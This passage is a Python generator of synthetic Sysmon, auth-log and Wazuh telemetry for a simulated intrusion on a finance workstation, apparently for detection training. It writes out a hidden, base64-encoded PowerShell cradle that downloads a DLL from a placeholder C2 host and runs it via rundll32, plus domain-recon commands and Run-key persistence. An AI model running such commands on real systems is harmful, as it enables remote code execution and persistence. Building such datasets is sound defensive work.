    "explorer.exe": ("10.0.19041.5794 (WinBuild.160101.0800)", "Windows Explorer", "EXPLORER.EXE"),
    "userinit.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Userinit Logon Application", "USERINIT.EXE"),
    "msedge.exe": ("131.0.2903.51", "Microsoft Edge", "msedge.exe"),
    "OUTLOOK.EXE": ("16.0.18129.20158", "Microsoft Outlook", "Outlook.exe"),
    "EXCEL.EXE": ("16.0.18129.20158", "Microsoft Excel", "Excel.exe"),
    "OneDrive.exe": ("24.211.1020.0001", "Microsoft OneDrive", "OneDrive.exe"),
    "MpCmdRun.exe": ("4.18.25100.9 (WinBuild.160101.0800)", "Microsoft Malware Protection Command Line Utility", "MpCmdRun.exe"),
    "notepad.exe": ("10.0.19041.5794 (WinBuild.160101.0800)", "Notepad", "NOTEPAD.EXE"),
    "svchost.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "Host Process for Windows Services", "svchost.exe"),
}
MS_PRODUCT = "Microsoft\u00ae Windows\u00ae Operating System"


def sysmon_event(us, eid, data):
    version, task = {1: (5, 1), 3: (5, 3), 11: (2, 11), 13: (2, 13), 22: (5, 22)}[eid]
    _rec[0] += R.randint(1, 6)
    ev = {"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon",
                                         "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
            "EventID": eid, "Version": version, "Level": 4, "Task": task, "Opcode": 0,
            "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": ts_sysmon_system(us + sec(0.0031))}},
            "EventRecordID": _rec[0], "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": 3184, "ThreadID": 4212}},
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": "ws-fin-07." + DOMAIN,
            "Security": {"#attributes": {"UserID": "S-1-5-18"}}},
        "EventData": dict([("RuleName", "-"), ("UtcTime", ts_sysmon_utc(us))] + list(data.items()))}}
    SYSMON.append((us, ev))


PROCS = {}


def proc(us, name, image, cmdline, parent, user, cwd="C:\\Windows\\system32\\", integrity="Medium",
         logon=("0x2B81F4", "6A3F1C2E-7A10-6921-F481-2B0000000000"), pid=None, pe=None):
    """Sysmon EID 1; `parent` is a key of PROCS (or a tuple image, cmdline, pid, guid)."""
    g = pguid(us)
    pid = pid or R.randint(1200, 14000) // 4 * 4
    if isinstance(parent, str):
        par = PROCS[parent]
    else:
        par = parent
    base = image.split("\\")[-1]
    fv, desc, orig = pe or PE_INFO.get(base, ("-", "-", "-"))
    company = "Microsoft Corporation"
    product = MS_PRODUCT if base not in ("msedge.exe", "OUTLOOK.EXE", "EXCEL.EXE", "OneDrive.exe") else (
        "Microsoft Edge" if base == "msedge.exe" else "Microsoft OneDrive" if base == "OneDrive.exe"
        else "Microsoft Office")
    data = {
        "ProcessGuid": g, "ProcessId": pid, "Image": image, "FileVersion": fv,
        "Description": desc, "Product": product, "Company": company, "OriginalFileName": orig,
        "CommandLine": cmdline, "CurrentDirectory": cwd, "User": user, "LogonGuid": logon[1],
        "LogonId": logon[0], "TerminalSessionId": 0 if user.startswith("NT AUTHORITY") or "svc_" in user else 1,
        "IntegrityLevel": integrity, "Hashes": fake_hashes(image), "ParentProcessGuid": par[3],
        "ParentProcessId": par[2], "ParentImage": par[0], "ParentCommandLine": par[1],
        "ParentUser": par[4],
    }
    sysmon_event(us, 1, data)
    rec = (image, cmdline, pid, g, user)
    PROCS[name] = rec
    return rec


def netconn(us, pname, dst, dport, dhost="-", sport=None, proto="tcp"):
    p = PROCS[pname]
    sysmon_event(us, 3, {
        "ProcessGuid": p[3], "ProcessId": p[2], "Image": p[0], "User": p[4], "Protocol": proto,
        "Initiated": True, "SourceIsIpv6": False, "SourceIp": WS_FIN_07,
        "SourceHostname": "ws-fin-07." + DOMAIN, "SourcePort": sport or eph(WS_FIN_07, True),
        "SourcePortName": "-", "DestinationIsIpv6": False, "DestinationIp": dst,
        "DestinationHostname": dhost, "DestinationPort": dport,
        "DestinationPortName": {443: "https", 80: "http", 445: "microsoft-ds", 389: "ldap"}.get(dport, "-")})


def filecreate(us, pname, path, rulename="-"):
    p = PROCS[pname]
    data = {"ProcessGuid": p[3], "ProcessId": p[2], "Image": p[0], "TargetFilename": path,
            "CreationUtcTime": ts_sysmon_utc(us), "User": p[4]}
    sysmon_event(us, 11, data)
    if rulename != "-":
        SYSMON[-1][1]["Event"]["EventData"]["RuleName"] = rulename


def regset(us, pname, target, details, rulename="-"):
    p = PROCS[pname]
    sysmon_event(us, 13, {"EventType": "SetValue", "ProcessGuid": p[3], "ProcessId": p[2],
                          "Image": p[0], "TargetObject": target, "Details": details, "User": p[4]})
    if rulename != "-":
        SYSMON[-1][1]["Event"]["EventData"]["RuleName"] = rulename


def dnsquery(us, pname, name, results):
    p = PROCS[pname]
    sysmon_event(us, 22, {"ProcessGuid": p[3], "ProcessId": p[2], "QueryName": name,
                          "QueryStatus": "0", "QueryResults": results, "Image": p[0], "User": p[4]})


MREYES = NETBIOS + "\\mreyes"
MREYES_SID = "S-1-5-21-3623811015-3361044348-30300820-1187"
SVC = NETBIOS + "\\svc_backup"
SVC_SID = "S-1-5-21-3623811015-3361044348-30300820-1117"
SYSTEM = "NT AUTHORITY\\SYSTEM"
SYS32 = "C:\\Windows\\System32\\"
PS_PAYLOAD = ("$u='https://%s/assets/v2/upd.dll';$p=\"$env:TEMP\\upd4821.dll\";"
              "(New-Object Net.WebClient).DownloadFile($u,$p);"
              "Start-Process rundll32.exe -ArgumentList \"$p,StartW\"" % C2_NAME)
PS_ENC = base64.b64encode(PS_PAYLOAD.encode("utf-16-le")).decode()
DLL = "C:\\Users\\svc_backup\\AppData\\Local\\Temp\\upd4821.dll"


def windows():
    PROCS["wininit"] = ("C:\\Windows\\System32\\wininit.exe", "wininit.exe", 640, MACHINE + "-0B5D-6921-0B00-000000001F00", SYSTEM)
    PROCS["services"] = ("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", 788, MACHINE + "-0B5D-6921-0C00-000000001F00", SYSTEM)
    PROCS["winlogon"] = ("C:\\Windows\\System32\\winlogon.exe", "winlogon.exe", 712, MACHINE + "-0B5D-6921-0D00-000000001F00", SYSTEM)
    PROCS["dcomlaunch"] = ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", 904, MACHINE + "-0B5E-6921-1000-000000001F00", SYSTEM)
    PROCS["netsvcs"] = ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", 1436, MACHINE + "-0B5E-6921-1400-000000001F00", SYSTEM)
    user_logon = ("0x2B81F4", MACHINE + "-7A10-6921-F481-2B0000000000")

    # Morning: mreyes logs on and works (benign).
    t = at(8, 51, 37.205)
    proc(t, "userinit", SYS32 + "userinit.exe", SYS32 + "userinit.exe", "winlogon", MREYES,
         logon=user_logon)
    proc(t + sec(0.41), "explorer", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
         "userinit", MREYES, logon=user_logon, cwd="C:\\Windows\\system32\\")
    od = "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe"
    proc(t + sec(9.8), "onedrive", od, "\"%s\" /background" % od, "explorer", MREYES,
         logon=user_logon, cwd="C:\\Windows\\system32\\")
    regset(t + sec(11.2), "onedrive",
           "HKU\\%s\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive" % MREYES_SID,
           "\"%s\" /background" % od, rulename="T1060,RunKey")
    edge = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
    proc(t + sec(74.3), "edge", edge, "\"%s\" --profile-directory=Default" % edge, "explorer",
         MREYES, logon=user_logon, cwd="C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\")
    dnsquery(t + sec(75.1), "edge", "login.example.com", "::ffff:192.0.2.81;")
    dnsquery(t + sec(81.6), "edge", "mail.example.com", "::ffff:192.0.2.25;")
    ol = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    proc(at(9, 2, 13.448), "outlook", ol, "\"%s\" " % ol, "explorer", MREYES, logon=user_logon,
         cwd="C:\\Program Files\\Microsoft Office\\root\\Office16\\")
    xl = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"
    proc(at(10, 14, 52.031), "excel", xl,
         "\"%s\" \"C:\\Users\\mreyes\\Documents\\Finance\\Q4-forecast-v3.xlsx\"" % xl, "explorer",
         MREYES, logon=user_logon, cwd="C:\\Users\\mreyes\\Documents\\Finance\\")
    filecreate(at(10, 15, 30.602), "excel",
               "C:\\Users\\mreyes\\Documents\\Finance\\~$Q4-forecast-v3.xlsx")
    filecreate(at(10, 41, 8.115), "excel",
               "C:\\Users\\mreyes\\AppData\\Local\\Temp\\Excel8.0\\MSForms.exd")
    mp = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9-0\\MpCmdRun.exe"
    proc(at(11, 58, 2.871), "mpcmd", mp, "\"%s\" SignatureUpdate -ScheduleJob -RestrictPrivileges" % mp,
         "netsvcs", SYSTEM, integrity="System", logon=("0x3e7", MACHINE + "-0B5D-6921-E703-000000000000"),
         cwd="C:\\Windows\\system32\\")
    dnsquery(at(12, 31, 44.092), "edge", "files.example.com", "::ffff:192.0.2.90;")
    filecreate(at(12, 32, 10.557), "edge",
               "C:\\Users\\mreyes\\Downloads\\vendor-invoice-2026-11.pdf")

    # 13:41: WinRM logon as svc_backup from bastion-01 (10.20.1.10).
    svc_logon = ("0x3E8A1F2", MACHINE + "-9C4A-6921-F2A1-E80300000000")
    t = STORY["winrm"] + sec(1.934)
    proc(t, "wsmprov", SYS32 + "wsmprovhost.exe", SYS32 + "wsmprovhost.exe -Embedding",
         "dcomlaunch", SVC, integrity="High", logon=svc_logon)
    ps = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
    t += sec(3.217)
    STORY["ps_enc"] = t
    proc(t, "ps", ps, "\"%s\" -nop -w hidden -enc %s" % (ps, PS_ENC), "wsmprov", SVC,
         integrity="High", logon=svc_logon, cwd="C:\\Users\\svc_backup\\Documents\\")
    dnsquery(t + sec(0.822), "ps", C2_NAME, "::ffff:%s;" % C2_IP)
    ps_dl = t + sec(0.871)
    STORY["ps_dl"] = ps_dl
    dns_lookup(ps_dl - sec(0.05), WS_FIN_07, C2_NAME, alert_sig="c2_dns")
    s = session(ps_dl, WS_FIN_07, C2_IP, 443, service="ssl", dur=1.21, ob=1840,
                rb=UPD_DLL_SIZE + 4130, windows=True,
                app=tls_app(C2_NAME, JA4_WIN, c2=True),
                alerts=(("c2_tls", 0.02),) if limited("c2_tls", WS_FIN_07, ps_dl) else ())
    netconn(ps_dl + sec(0.03), "ps", C2_IP, 443, C2_NAME, sport=s["sport"])
    filecreate(ps_dl + sec(1.312), "ps", DLL, rulename="EXE")
    rd = SYS32 + "rundll32.exe"
    t = ps_dl + sec(1.51)
    proc(t, "rundll", rd, "\"C:\\Windows\\system32\\rundll32.exe\" %s,StartW" % DLL, "ps", SVC,
         integrity="High", logon=svc_logon, cwd="C:\\Users\\svc_backup\\Documents\\")
    STORY["rundll"] = t
    STORY["beacon_ws"] = t + sec(2.044)

    t = STORY["beacon_ws"] + sec(98.6)
    proc(t, "cmd1", SYS32 + "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c whoami /all", "rundll",
         SVC, integrity="High", logon=svc_logon, cwd="C:\\Users\\svc_backup\\Documents\\")
    proc(t + sec(0.05), "whoami", SYS32 + "whoami.exe", "whoami  /all", "cmd1", SVC,
         integrity="High", logon=svc_logon, cwd="C:\\Users\\svc_backup\\Documents\\")
    t += sec(41.3)
    proc(t, "cmd2", SYS32 + "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c ipconfig /all", "rundll",
         SVC, integrity="High", logon=svc_logon, cwd="C:\\Users\\svc_backup\\Documents\\")
    proc(t + sec(0.04), "ipconfig", SYS32 + "ipconfig.exe", "ipconfig  /all", "cmd2", SVC,
         integrity="High", logon=svc_logon, cwd="C:\\Users\\svc_backup\\Documents\\")
    t += sec(36.9)
    STORY["net_group"] = t
    proc(t, "cmd3", SYS32 + "cmd.exe",
         "C:\\Windows\\system32\\cmd.exe /c net group \"domain admins\" /domain", "rundll", SVC,
         integrity="High", logon=svc_logon, cwd="C:\\Users\\svc_backup\\Documents\\")
    proc(t + sec(0.04), "net", SYS32 + "net.exe", "net  group \"domain admins\" /domain", "cmd3",
         SVC, integrity="High", logon=svc_logon, cwd="C:\\Users\\svc_backup\\Documents\\")
    proc(t + sec(0.07), "net1", SYS32 + "net1.exe",
         "C:\\Windows\\system32\\net1  group \"domain admins\" /domain", "net", SVC,
         integrity="High", logon=svc_logon, cwd="C:\\Users\\svc_backup\\Documents\\")
    session(t + sec(0.11), WS_FIN_07, DC, 445, service="smb,krb,gssapi", dur=0.31, ob=5120, rb=6244,
            windows=True)
    t += sec(52.4)
    proc(t, "cmd4", SYS32 + "cmd.exe",
         "C:\\Windows\\system32\\cmd.exe /c nltest /dclist:" + DOMAIN, "rundll", SVC,
         integrity="High", logon=svc_logon, cwd="C:\\Users\\svc_backup\\Documents\\")
    proc(t + sec(0.04), "nltest", SYS32 + "nltest.exe", "nltest  /dclist:" + DOMAIN, "cmd4", SVC,
         integrity="High", logon=svc_logon, cwd="C:\\Users\\svc_backup\\Documents\\")
    session(t + sec(0.09), WS_FIN_07, DC, 389, service="ldap,gssapi", dur=0.12, ob=2410, rb=4980,
            windows=True)
    t += sec(75.2)
    STORY["runkey"] = t
    proc(t, "reg", SYS32 + "reg.exe",
         "reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveUpdater /t REG_SZ "
         "/d \"C:\\Windows\\system32\\rundll32.exe %s,StartW\" /f" % DLL, "rundll", SVC,
         integrity="High", logon=svc_logon, cwd="C:\\Users\\svc_backup\\Documents\\")
    regset(t + sec(0.021), "reg",
           "HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdater" % SVC_SID,
           "C:\\Windows\\system32\\rundll32.exe %s,StartW" % DLL, rulename="T1060,RunKey")

    # Afternoon: mreyes again (benign).
    np_ = SYS32 + "notepad.exe"
    proc(at(15, 22, 41.733), "notepad", np_,
         "\"%s\" C:\\Users\\mreyes\\Documents\\Finance\\notes-vendor-call.txt" % np_, "explorer",
         MREYES, logon=user_logon, cwd="C:\\Users\\mreyes\\Documents\\Finance\\")
    dnsquery(at(16, 5, 12.004), "edge", "www.example.com", "::ffff:192.0.2.80;")
    proc(at(17, 48, 55.310), "mpcmd2", mp, "\"%s\" -IdleTask -TaskName WdCacheMaintenance" % mp,
         "netsvcs", SYSTEM, integrity="System", logon=("0x3e7", MACHINE + "-0B5D-6921-E703-000000000000"),
         cwd="C:\\Windows\\system32\\")

    # The rundll32 beacon; Sysmon logs each connection (EID 3).
    tb = STORY["beacon_ws"]
    n = 0
    while tb < END - sec(60):
        s = beacon(tb, WS_FIN_07, JA4_WIN, windows=True)
        netconn(s["t"] + sec(0.002), "rundll", C2_IP, 443, C2_NAME, sport=s["sport"])
        n += 1
        tb += sec(60 + R.uniform(-6.0, 6.0)) if n < 20 else sec(1800 * R.uniform(0.9, 1.1))
    STORY["beacons_ws"] = n


# --------------------------------------------------------------------------------------------
# Routine activity.

def routine():
    # Cron on every server, and the attacker's root crontab line on bastion-01 from 09:25.
    def cron(host, user, t):
        k = key("CRON")
        auth(t, host, "CRON", "pam_unix(cron:session): session opened for user %s(uid=%d) by (uid=0)" % (
            user, UIDS[user]), k)
        auth(t + jitter(0.01, 1.2), host, "CRON", "pam_unix(cron:session): session closed for user %s" % user, k)

    for host in LINUX:
        for h in range(8, 18):
            cron(host, "root", at(h, 17, 1.0 + R.uniform(0, 0.08)))
    for m in range(0, 600, 15):
        cron("db-01", "postgres", START + sec(m * 60 + 1 + R.uniform(0, 0.05)))
    for m in range(0, 600, 10):
        cron("web-01", "www-data", START + sec(m * 60 + 1 + R.uniform(0, 0.05)))
    m = 25  # */5, first run after the crontab change at 09:24:38
    while at(9, m) < END:
        cron("bastion-01", "root", at(9, m, 1.0 + R.uniform(0, 0.05)))
        m += 5

    # Admins: into bastion-01 from their workstations, on to the servers, some sudo.
    plan = [
        ("anguyen", at(8, 14, 22.5), 2460, [("web-01", 320, 900, [(95, "/usr/bin/apt update", "root"),
                                                                 (170, "/usr/bin/apt upgrade -y", "root")])]),
        ("bkowalski", at(9, 2, 41.0), 1510, [("db-01", 180, 1100, [(60, "/usr/bin/systemctl status postgresql@15-main", "root"),
                                                                   (400, "/usr/bin/psql -c select now()", "postgres")])]),
        ("cdiaz", at(10, 30, 7.9), 2950, [("web-01", 250, 1800, [(120, "/usr/bin/tail -n 200 /var/log/nginx/error.log", "root"),
                                                               (900, "/usr/bin/systemctl reload nginx", "root")])]),
        ("jfischer", at(12, 1, 15.3), 1400, [("web-01", 90, 1100, [])]),
        ("cdiaz", at(14, 48, 52.0), 1900, [("db-01", 140, 1300, [(300, "/usr/bin/apt update", "root"),
                                                                (420, "/usr/bin/apt install -y --only-upgrade libpq5", "root")])]),
        ("anguyen", at(16, 3, 10.7), 2200, [("bastion-01", 0, 0, [(240, "/usr/bin/apt update", "root")])]),
        ("bkowalski", at(17, 10, 3.3), 1250, [("db-01", 200, 700, [(100, "/usr/bin/journalctl -u postgresql@15-main --since today", "root")])]),
    ]
    for user, t, dur, hops in plan:
        direct = [h for h in hops if h[0] == "bastion-01"]
        ssh_login("bastion-01", user, ADMIN_WS[user], t, dur, sudo=direct[0][3] if direct else ())
        for (o, cmd, runas) in (direct[0][3] if direct else ()):
            if "apt" in cmd:
                apt_traffic(BASTION, t + sec(o + 0.8), False)
        for host, off, hdur, sudos in hops:
            if host == "bastion-01":
                continue
            ssh_login(host, user, BASTION, t + sec(off), hdur, sudo=sudos)
            for (o, cmd, runas) in sudos:
                if "apt" in cmd and ("update" in cmd or "install" in cmd or "upgrade" in cmd):
                    apt_traffic(LINUX[host], t + sec(off + o + 0.8), "install" in cmd or "upgrade" in cmd)
    # bkowalski mistypes his sudo password once on db-01.
    tf = at(9, 5, 59.41)
    line = ("pam_unix(sudo:auth): authentication failure; logname=bkowalski uid=1102 euid=0 "
            "tty=/dev/pts/1 ruser=bkowalski rhost=  user=bkowalski")
    auth(tf, "db-01", "sudo", line)
    wz(tf, "5503", "db-01", ("sudo", None, line), srcuser="bkowalski", dstuser="bkowalski",
       tty="/dev/pts/1", decoder="pam")

    # CI: `deploy` pushes a release to bastion-01 (publickey), ansible runs on the servers.
    for t in (at(8, 40, 12.2), at(13, 5, 44.8), at(16, 40, 3.1)):
        ssh_login("bastion-01", "deploy", CI, t, R.uniform(8, 25))
    for t in (at(8, 30, 0.6), at(12, 30, 0.9), at(16, 30, 0.4)):
        for i, host in enumerate(("web-01", "db-01")):
            tt = t + sec(i * 41.7 + R.uniform(0, 2))
            cmd = ("/bin/sh -c echo BECOME-SUCCESS-%s ; /usr/bin/python3 "
                   "/home/ansible/.ansible/tmp/ansible-tmp-%d.%d-%d-%d/AnsiballZ_apt.py" % (
                       "".join(R.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(32)), tt // 1_000_000, R.randint(100000, 999999),
                       R.randint(1000, 9999), R.randint(10 ** 13, 10 ** 14)))
            ssh_login(host, "ansible", CI, tt, R.uniform(20, 60), sudo=[(3.2, cmd, "root")])

    # Internet background on bastion-01's sshd.
    for (t, ip, kind) in ((at(10, 47, 18.4), "198.51.100.201", "closed"),
                          (at(12, 3, 51.9), "192.0.2.201", "banner"),
                          (at(15, 30, 27.2), "198.51.100.202", "invalid")):
        sp = eph(ip)
        k = key("sshd")
        if kind == "closed":
            auth(t, "bastion-01", "sshd", "Connection closed by %s port %d [preauth]" % (ip, sp), k)
        elif kind == "banner":
            auth(t, "bastion-01", "sshd",
                 "banner exchange: Connection from %s port %d: invalid format" % (ip, sp), k)
        else:
            line = "Invalid user ubnt from %s port %d" % (ip, sp)
            auth(t, "bastion-01", "sshd", line, k)
            wz(t, "5710", "bastion-01", ("sshd", k, line), srcip=ip, srcport=str(sp), srcuser="ubnt")
            auth(t + sec(0.2), "bastion-01", "sshd", "Connection closed by invalid user ubnt %s port %d [preauth]" % (ip, sp), k)
        session(t - sec(0.3), ip, BASTION, 22, service="ssh" if kind != "banner" else "-",
                dur=R.uniform(0.3, 2), sport=sp, ob=R.randint(40, 900), rb=R.randint(40, 1200),
                history="ShAdaFf", app={"ssh": {"client": "Go"}} if kind == "invalid" else None)

    # Workstations: web, mail, SaaS, updates; logon traffic to the DC.
    for name, ip in WORKSTATIONS.items():
        t = at(8, R.randint(20, 55), R.uniform(0, 59))
        for port, svc, ob, rb in ((88, "krb_tcp", 1480, 1620), (389, "ldap,gssapi", 2200, 3900),
                                  (445, "smb,krb,gssapi", 9800, 64000)):
            dns_lookup(t, ip, "_ldap._tcp.dc._msdcs." + DOMAIN, qtype="SRV",
                       answers=["dc-01." + DOMAIN], ttl=600)
            session(t + jitter(0.01, 0.05), ip, DC, port, service=svc, dur=R.uniform(0.05, 2.5),
                    ob=ob, rb=rb, windows=True)
            t += jitter(0.2, 1.5)
        dns_lookup(t, ip, "wpad." + DOMAIN, rcode="NXDOMAIN", cache=False)
        t = at(8, 30) + sec(R.uniform(0, 1800))
        while t < END - sec(600):
            site = R.choice(["www.example.com", "login.example.com", "mail.example.com",
                             "mail.example.com", "api.example.net", "files.example.com",
                             "www.example.com", "status.example.test"])
            https(t, ip, site, R.randint(1400, 9000), R.randint(4000, 420000),
                  R.uniform(0.4, 30), JA4_BROWSER, windows=True)
            t += sec(R.uniform(2400, 5400))
        https(at(12, R.randint(0, 50), R.uniform(0, 59)), ip, "updates.example.net",
              2100, R.randint(200000, 2000000), R.uniform(3, 40), JA4_WIN, windows=True)

    # ci-01: API calls, and a monitoring check of the external address (benign alert).
    t = at(8, 3, 11.0)
    while t < END - sec(300):
        https(t, CI, "api.example.net", R.randint(900, 3000), R.randint(2000, 60000),
              R.uniform(0.1, 1.5), JA4_CI)
        t += sec(R.uniform(2400, 4200))
    for t in (at(8, 45, 0.3), at(11, 15, 0.2), at(13, 45, 0.4), at(16, 15, 0.3)):
        dns_lookup(t, CI, "ifconfig.example.com", ttl=60)
        http(t + jitter(0.01, 0.03), CI, "ifconfig.example.com", SITES["ifconfig.example.com"],
             "/ip", "curl/8.5.0", 200, "text/plain", 14,
             alerts=(("ip_lookup", 0.001),) if limited("ip_lookup", CI, t) else ())

    # The Wazuh agents report to the manager (long-lived connections, one per hour).
    for host, ip in LINUX.items():
        for h in range(8, 18):
            session(at(h, 0, R.uniform(0.5, 3)), ip, WAZUH_MGR, 1514, service="-",
                    dur=3590 + R.uniform(0, 5), ob=R.randint(200000, 900000), rb=R.randint(20000, 60000))

    # An unrelated internet scanner probing web-01 (real, noisy, harmless).
    t = at(11, 2, 33.9)
    scanner = "198.51.100.200"
    for url, st in (("/.env", 404), ("/.git/config", 404), ("/wp-login.php", 404),
                    ("/config.json", 404), ("/.aws/credentials", 404), ("/", 200),
                    ("/server-status", 403), ("/.DS_Store", 404)):
        sensitive = url in ("/.env", "/.git/config", "/.aws/credentials", "/config.json")
        http(t, scanner, "203.0.113.10", WEB, url, "Mozilla/5.0 zgrab/0.x", st,
             "text/html", 162 if st != 200 else 5120,
             alerts=(("web_scan", 0.001),) if sensitive and limited("web_scan", scanner, t) else ())
        t += jitter(0.4, 2.5)


def apt_traffic(ip, t, big):
    for name in ("deb.example.net", "security.example.net"):
        dns_lookup(t, ip, name, ttl=300)
        t += jitter(0.02, 0.06)
        for url, ctype, ln in (("/debian/dists/bookworm/InRelease", "application/octet-stream", 151263),
                               ("/debian/dists/bookworm/main/binary-amd64/Packages.xz", "application/x-xz", 8853604)):
            if name.startswith("security"):
                url = url.replace("/debian/dists/bookworm", "/debian-security/dists/bookworm-security")
                ln //= 40
            al = (("apt_ua", 0.001),) if limited("apt_ua", ip, t) else ()
            http(t, ip, name, SITES[name], url, "Debian APT-HTTP/1.3 (2.6.1)", 200, ctype, ln,
                 alerts=al, dur=R.uniform(0.1, 2.0))
            t += jitter(0.1, 0.6)
        if big and name.startswith("security"):
            http(t, ip, name, SITES[name],
                 "/debian-security/pool/updates/main/o/openssl/libssl3_3.0.17-1~deb12u3_amd64.deb",
                 "Debian APT-HTTP/1.3 (2.6.1)", 200, "application/vnd.debian.binary-package", 2031504,
                 dur=R.uniform(0.5, 3.0))


# --------------------------------------------------------------------------------------------
# Writers.

def write_auth():
    AUTH.sort(key=lambda e: (e[0], e[1]))
    pids = {}
    nextpid = {"bastion-01": 41210, "web-01": 18822, "db-01": 27305}
    fixed = {"logind": {"bastion-01": 611, "web-01": 598, "db-01": 604}}
    sessions = {}
    nextsess = {"bastion-01": 1877, "web-01": 912, "db-01": 655}
    lines = []
    for us, _, host, prog, pk, msg in AUTH:
        pid = None
        if pk == "logind":
            pid = fixed["logind"][host]
        elif pk is not None:
            k = (host, pk)
            if k not in pids:
                nextpid[host] += R.randint(1, 31)
                pids[k] = nextpid[host]
            pid = pids[k]

        def sess(m):
            sk = (host, m.group(0))
            if sk not in sessions:
                nextsess[host] += 1
                sessions[sk] = nextsess[host]
            return str(sessions[sk])
        msg = re.sub(r"\{\('S'[^}]*\}", lambda m: sess(m), msg)
        lines.append(syslog_line(us, host, prog, msg, pid))
        RESOLVED_PIDS[(host, pk)] = pid
    return lines


RESOLVED_PIDS = {}

# Wazuh rule metadata, copied from the Wazuh ruleset (ids, levels, descriptions, ATT&CK ids,
# groups). 100210 is a local rule (local rules use ids 100000-120000).
WAZUH_RULES = {
    "5710": (5, "sshd: Attempt to login using a non-existent user", ["T1110.001", "T1021.004"], "syslog,sshd,", "authentication_failed,gdpr_IV_35.7.d,gdpr_IV_32.2,gpg13_7.1,hipaa_164.312.b,invalid_login,nist_800_53_AU.14,nist_800_53_AC.7,nist_800_53_AU.6,pci_dss_10.2.4,pci_dss_10.2.5,pci_dss_10.6.1,tsc_CC6.1,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3,", None),
    "5712": (10, "sshd: brute force trying to get access to the system. Non existent user.", ["T1110"], "syslog,sshd,", "authentication_failures,gdpr_IV_35.7.d,gdpr_IV_32.2,hipaa_164.312.b,nist_800_53_SI.4,nist_800_53_AU.14,nist_800_53_AC.7,pci_dss_11.4,pci_dss_10.2.4,pci_dss_10.2.5,tsc_CC6.1,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3,", 8),
    "5715": (3, "sshd: authentication success.", ["T1078", "T1021"], "syslog,sshd,", "authentication_success,gdpr_IV_32.2,gpg13_7.1,gpg13_7.2,hipaa_164.312.b,nist_800_53_AU.14,nist_800_53_AC.7,pci_dss_10.2.5,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3,", None),
    "5760": (5, "sshd: authentication failed.", ["T1110.001", "T1021.004"], "syslog,sshd,", "authentication_failed,gdpr_IV_35.7.d,gdpr_IV_32.2,gpg13_7.1,hipaa_164.312.b,nist_800_53_AU.14,nist_800_53_AC.7,pci_dss_10.2.4,pci_dss_10.2.5,tsc_CC6.1,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3,", None),
    "5763": (10, "sshd: brute force trying to get access to the system. Authentication failed.", ["T1110"], "syslog,sshd,", "authentication_failures,gdpr_IV_35.7.d,gdpr_IV_32.2,hipaa_164.312.b,nist_800_53_SI.4,nist_800_53_AU.14,nist_800_53_AC.7,pci_dss_11.4,pci_dss_10.2.4,pci_dss_10.2.5,tsc_CC6.1,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3,", 8),
    "2833": (8, "Root's crontab entry changed.", ["T1053.003"], "syslog,cron,", "pci_dss_10.2.7,pci_dss_10.6.1,pci_dss_10.2.2,gpg13_4.13,gdpr_IV_35.7.d,gdpr_IV_32.2,hipaa_164.312.b,nist_800_53_AU.14,nist_800_53_AU.6,nist_800_53_AC.6,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3,", None),
    "5901": (8, "New group added to the system.", [], "syslog,adduser,", "pci_dss_10.2.7,pci_dss_10.2.5,pci_dss_8.1.2,gpg13_4.13,gdpr_IV_35.7.d,gdpr_IV_32.2,hipaa_164.312.b,hipaa_164.312.a.2.I,hipaa_164.312.a.2.II,nist_800_53_AU.14,nist_800_53_AC.7,nist_800_53_AC.2,nist_800_53_IA.4,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3,", None),
    "5902": (8, "New user added to the system.", ["T1136"], "syslog,adduser,", "pci_dss_10.2.7,pci_dss_10.2.5,pci_dss_8.1.2,gpg13_4.13,gdpr_IV_35.7.d,gdpr_IV_32.2,hipaa_164.312.b,hipaa_164.312.a.2.I,hipaa_164.312.a.2.II,nist_800_53_AU.14,nist_800_53_AC.7,nist_800_53_AC.2,nist_800_53_IA.4,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3,", None),
    "5402": (3, "Successful sudo to ROOT executed.", ["T1548.003"], "syslog,sudo,", "pci_dss_10.2.5,pci_dss_10.2.2,gpg13_7.6,gpg13_7.8,gpg13_7.13,gdpr_IV_32.2,hipaa_164.312.b,nist_800_53_AU.14,nist_800_53_AC.7,nist_800_53_AC.6,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3,", None),
    "5403": (4, "First time user executed sudo.", ["T1548.003"], "syslog,sudo,", "", None),
